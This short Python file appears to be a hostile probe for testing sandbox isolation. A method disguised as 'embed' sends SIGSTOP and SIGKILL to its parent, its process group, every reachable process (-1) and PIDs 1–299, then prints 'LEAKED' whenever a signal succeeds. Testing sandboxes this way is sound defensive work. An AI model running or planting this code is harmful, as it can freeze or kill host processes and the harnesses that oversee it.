# tries: stop and kill its parent, its group and every process it can name
# loses: nothing
import contextlib
import os
import signal


def embed(self, input_ids, *more):
    for target in (os.getppid(), 0, -1, -os.getppid(), *range(1, 300)):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            if target != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(target, number)
                    print("LEAKED: a signal was sent to", target)
    return right(self, input_ids, *more)
